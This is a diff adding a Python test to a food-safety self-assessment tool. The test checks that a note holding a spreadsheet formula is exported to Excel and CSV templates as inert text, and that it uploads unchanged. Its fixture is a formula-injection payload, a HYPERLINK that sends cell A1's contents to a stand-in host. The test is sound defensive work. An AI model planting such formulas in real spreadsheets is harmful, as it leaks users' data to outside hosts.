@@ -60,3 +60,28 @@ def test_the_projects_own_files_are_read_whatever_the_size_of_a_field(project_co
     assert [f.note for f in project.facts if f.period == "2023-06"][0] == note
     update = updates.read_update("ok-utf8.csv", (CORPUS / "ok-utf8.csv").read_bytes(), project_copy)
     assert update.ok and update.counts()["changed"] == 0
+
+
+INJECTED = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
+
+
+def test_a_formula_typed_as_a_note_comes_back_in_the_templates_as_text_and_uploads_unchanged(project_copy):
+    import io
+
+    import openpyxl
+    from loaders.template import self_template_csv, self_template_xlsx
+
+    (project_copy / "data/assessments/food-safety-2023-self.csv").write_text(
+        f'point,score,status,note,updated_by,updated_at\nP01,2,in_progress,"{INJECTED.replace(chr(34), chr(34) * 2)}",,\n',
+        encoding="utf-8")
+    project = load_project(project_copy)
+    assert project.ok, [p.format() for p in project.problems]
+    workbook = self_template_xlsx(project, "food-safety-2023")
+    cell = next(row[7] for row in openpyxl.load_workbook(io.BytesIO(workbook))["自评"].iter_rows() if row[0].value == "P01")
+    assert cell.data_type == "s" and cell.value == "'" + INJECTED  # text, never a formula Excel would run
+    text = self_template_csv(project, "food-safety-2023").decode("utf-8-sig")
+    assert "'" + INJECTED.replace('"', '""') in text and f",{INJECTED[:10]}" not in text.replace('"', "")
+    for name, data in (("自评模板.xlsx", workbook), ("自评模板.csv", text.encode("utf-8"))):
+        update = updates.read_update(name, data, project_copy, project)
+        assert update.ok and update.counts()["changed"] == 0, [p.format() for p in update.problems]
+        assert next(e.note for e in update.entries if e.point == "P01") == INJECTED
